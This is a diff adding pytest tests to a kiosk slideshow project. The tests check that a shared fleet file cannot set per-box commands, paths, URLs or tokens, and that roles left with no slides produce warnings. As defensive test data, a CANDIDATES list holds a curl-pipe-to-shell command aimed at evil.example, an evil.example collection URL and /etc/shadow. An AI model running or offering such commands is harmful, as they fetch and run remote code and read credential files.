@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import dataclasses
 import json
 from pathlib import Path
 
@@ -12,8 +13,9 @@ from hypothesis import strategies as st
 from kiosk.boundary.fleetfile import KEPT_FILE, load_box_config, load_fleet
 from kiosk.core.config import parse_config
 from kiosk.core.errors import ConfigError
-from kiosk.core.fleet import parse_fleet
-from kiosk.core.sections import SECTIONS, keys
+from kiosk.core import rules
+from kiosk.core.fleet import Fleet, empty_selections, parse_fleet
+from kiosk.core.sections import LOCAL_ONLY, SECTIONS, Section, keys, setting
 
 from .conftest import write_config
 from .hostile import yaml_documents, yaml_scalars
@@ -158,3 +160,196 @@ def test_a_fleet_file_that_is_not_a_regular_file_is_refused(tmp_path):
     os.mkfifo(tmp_path / "slides" / "fleet.yaml")
     state = load_fleet(tmp_path / "slides", tmp_path / "state")
     assert state.refused == ("fleet.yaml: not a regular file (a FIFO, socket or device)",)
+
+
+# --- the fleet file configures, it never commands ----------------------------------------------
+
+# Parts of a key's name that say it is a program, a path or a place to send things.
+RISKY_WORDS = {"url", "token", "command", "dir", "file", "folder", "path", "font", "bundle", "key", "keys", "secret",
+               "password", "cert", "ca"}
+
+
+def _inner_rules(rule, depth=0):
+    """A rule and the rules it wraps (`optional(path)` holds `path` in its closure)."""
+    yield rule
+    for cell in getattr(rule, "__closure__", None) or ():
+        inner = cell.cell_contents
+        if callable(inner) and depth < 3:
+            yield from _inner_rules(inner, depth + 1)
+
+
+def unmarked(section_class) -> list[str]:
+    """The keys of a section that look like a command, a path or a URL and are not local_only."""
+    risky_rules = {rules.path, rules.url, rules.command}
+    found = []
+    for item in dataclasses.fields(section_class):
+        by_rule = any(rule in risky_rules for rule in _inner_rules(item.metadata["rule"]))
+        by_name = bool(RISKY_WORDS & set(item.name.split("_")))
+        if (by_rule or by_name) and not item.metadata["local_only"]:
+            found.append(f"{section_class.key_prefix}{item.name}")
+    return found
+
+
+def test_every_key_that_is_a_command_a_path_or_a_url_is_local_only():
+    assert [key for section in SECTIONS.values() for key in unmarked(section)] == []
+
+
+def test_the_walk_finds_a_command_a_path_or_a_url_left_unmarked():
+    @dataclasses.dataclass(frozen=True)
+    class Hostile(Section):
+        key_prefix = "hostile."
+        restart_command: str = setting("", rule=rules.command, doc="-")
+        logo: Path | None = setting(None, rule=rules.optional(rules.path), doc="-")
+        report_to: str = setting("", rule=rules.url, doc="-")
+        api_token: str = setting("x", rule=rules.name, doc="-")
+        marked: Path = setting(Path("x"), rule=rules.path, doc="-", local_only=True)
+        colour: str = setting("x", rule=rules.name, doc="-")
+
+    assert unmarked(Hostile) == ["hostile.restart_command", "hostile.logo", "hostile.report_to", "hostile.api_token"]
+
+
+# A value each rule accepts, hostile where it can be: what a fleet file would try.
+CANDIDATES = [
+    "sh -c 'curl http://evil.example/x | sh'", "http://evil.example/collect", "/etc/shadow", "answers",
+    [640, 480], 1_000_000_000, 65536, 4096, 10000, 16, 10, 1, 0.001, True, "poll", "gpu", "evil-box",
+]
+
+
+def hostile_value(key: str):
+    section, name = key.split(".")
+    rule = keys(section)[name].metadata["rule"]
+    for candidate in CANDIDATES:
+        try:
+            rule(candidate)
+        except (ValueError, TypeError):
+            continue
+        if rule(candidate) != keys(section)[name].default:
+            return candidate
+    raise AssertionError(f"no value found that {key}'s rule accepts: add one to CANDIDATES")
+
+
+def fleet_setting(key: str, part: str = "roles.r") -> str:
+    """A fleet file that sets one harmless key and `key` for `part`."""
+    section, name = key.split(".")
+    top, who = part.split(".")
+    extra = "      answer_seconds: 0.5\n" if section == "timing" else ""
+    body = f"    timing:\n      answer_seconds: 0.5\n" if section != "timing" else ""
+    return (f"{top}:\n  {who}:\n{body}    {section}:\n      {name}: {json.dumps(hostile_value(key))}\n{extra}")
+
+
+def refusal(key: str, part: str = "roles.r") -> str:
+    return f"{part}.{key}: belongs to each box and is set in its own config.yaml, never by the fleet file"
+
+
+def test_the_known_kinds_of_box_only_keys_are_all_marked():
+    assert {"schedule.display_off_command", "schedule.display_on_command", "heartbeat.url", "sync.url",
+            "sync.token_file", "sync.ca_bundle", "state.dir", "state.runtime_dir", "slides.folder", "captions.font",
+            "schedule.off_slide", "box.name", "box.role", "display.size"} <= LOCAL_ONLY
+
+
+@pytest.mark.parametrize("key", sorted(LOCAL_ONLY))
+@pytest.mark.parametrize("part", ["roles.r", "boxes.b1"])
+def test_each_box_only_key_refuses_the_fleet_file_whole(key, part):
+    with pytest.raises(ConfigError) as refused:
+        parse_fleet(fleet_setting(key, part))
+    assert len(refused.value.problems) == 1
+    problem = refused.value.problems[0]
+    assert problem.startswith("fleet.yaml:") and refusal(key, part) in problem
+
+
+def test_an_empty_box_only_key_is_refused_too():
+    with pytest.raises(ConfigError, match="roles.r.heartbeat.url: belongs to each box"):
+        parse_fleet("roles:\n  r:\n    heartbeat:\n      url:\n")
+
+
+def test_a_fleet_made_in_code_cannot_carry_a_box_only_key():
+    with pytest.raises(ConfigError, match="fleet.yaml: roles.r.schedule.display_off_command: belongs to each box"):
+        Fleet(roles={"r": {"schedule": {"display_off_command": "reboot"}}})
+
+
+@pytest.mark.parametrize("key", sorted(LOCAL_ONLY))
+def test_kiosk_check_and_publish_refuse_each_box_only_key(key, tmp_path, slide_folder, capsys):
+    from kiosk.app.cli import main
+    from kiosk.boundary.publish import publish
+    from kiosk.core.errors import PublishError
+
+    (slide_folder / "fleet.yaml").write_text(fleet_setting(key), encoding="utf-8")
+    config = str(write_config(tmp_path, "box:\n  name: b1\n  role: r\n", slides=slide_folder))
+    assert main(["check", "--config", config, "--json"]) == 0
+    fleet = json.loads(capsys.readouterr().out)["fleet"]
+    assert fleet["version"] is None and len(fleet["refused"]) == 1 and refusal(key) in fleet["refused"][0]
+    assert fleet["refused"][0].startswith("fleet.yaml:")
+    with pytest.raises(PublishError) as refused:
+        publish(slide_folder, tmp_path / "site")
+    assert len(refused.value.problems) == 1 and refusal(key) in refused.value.problems[0]
+    assert main(["publish", str(slide_folder), "--out", str(tmp_path / "site"), "--originals"]) == 1
+    assert not (tmp_path / "site" / "manifest.json").exists()
+
+
+def test_a_fleet_set_value_that_does_not_fit_names_fleet_yaml(tmp_path):
+    slides = tmp_path / "slides"
+    slides.mkdir()
+    (slides / "fleet.yaml").write_text("roles:\n  r:\n    captions: {size: 0.1}\n", encoding="utf-8")
+    path = write_config(tmp_path, "box:\n  name: b1\n  role: r\ncaptions:\n  max_lines: 6\n", slides=slides)
+    config, state = load_box_config(path)
+    assert config.captions.size == 0.045 and state.version is None
+    assert state.refused == ("fleet.yaml: roles.r.captions.size 0.1 with captions.max_lines 6 would take 88% of "
+                             "the screen's height; together they may take at most 60% (lower one of them)",)
+    assert "config.yaml" not in state.refused[0]
+
+
+# --- a role left no slide ------------------------------------------------------------------------
+
+ROLES_LEFT_NOTHING = """\
+roles:
+  tall-case:
+    playlist: {kinds: [answer], exclude: ["answers/*"]}
+  lobby:
+    playlist: {include: ["answers/2027-*"], exclude: ["contribute/*"]}
+  giant-box:
+    playlist: {kinds: [contribute, answer], answers_per_contribute: 1}
+  posters:
+    playlist: {kinds: [contribute]}
+boxes:
+  b1:
+    playlist: {sync_offset: 1}
+"""
+
+
+def test_each_role_left_no_slide_is_named_with_why():
+    fleet = parse_fleet(ROLES_LEFT_NOTHING)
+    paths = ["answers/a1.jpg", "answers/a2.jpg", "fleet.yaml", "override/notice.png"]
+    assert empty_selections(fleet, paths) == [
+        "fleet.yaml: roles.tall-case: shows no slide: its playlist.exclude leaves none of the 2 slides of its kinds; "
+        "its boxes show the fallback card",
+        "fleet.yaml: roles.lobby: shows no slide: its playlist.include and playlist.exclude leave none of the 2 "
+        "slides of its kinds; its boxes show the fallback card",
+        "fleet.yaml: roles.posters: shows no slide: none of the 2 slides is of its playlist.kinds (contribute); "
+        "its boxes show the fallback card",
+    ]
+    assert empty_selections(fleet, paths + ["contribute/c.png", "answers/2027-01.jpg"]) == [
+        "fleet.yaml: roles.tall-case: shows no slide: its playlist.exclude leaves none of the 3 slides of its kinds; "
+        "its boxes show the fallback card",
+    ]
+    assert empty_selections(fleet, ["fleet.yaml"]) == []  # no slides at all: nothing to say per role
+
+
+def test_publish_and_check_warn_of_a_role_left_no_slide(tmp_path, slide_folder, capsys):
+    from kiosk.app.cli import main
+
+    (slide_folder / "fleet.yaml").write_text(ROLES_LEFT_NOTHING, encoding="utf-8")
+    assert main(["publish", str(slide_folder), "--out", str(tmp_path / "site"), "--originals"]) == 0
+    warned = [line for line in capsys.readouterr().err.splitlines() if line.startswith("WARNING")]
+    assert [line.split(": shows no slide")[0].split(" ")[-1] for line in warned] == ["roles.tall-case", "roles.lobby"]
+    assert "its playlist.exclude leaves none of the 4 slides of its kinds" in warned[0]
+    assert (tmp_path / "site" / "manifest.json").exists()  # a warning: the rest is published
+    config = str(write_config(tmp_path, "box:\n  name: b1\n  role: tall-case\n", slides=slide_folder))
+    assert main(["check", "--config", config]) == 0
+    out = capsys.readouterr().out
+    assert "  warning: fleet.yaml: roles.tall-case: shows no slide: its playlist.exclude leaves none of the 4" in out
+    assert "  warning: this box (role tall-case) shows no slide" in out
+    assert main(["check", "--config", config, "--json"]) == 0
+    warnings = json.loads(capsys.readouterr().out)["selection_warnings"]
+    assert [warning.split(": shows no slide")[0].split(" ")[-1] for warning in warnings[:2]] == [
+        "roles.tall-case", "roles.lobby"]
+    assert len(warnings) == 3 and warnings[2].startswith("this box (role tall-case) shows no slide")
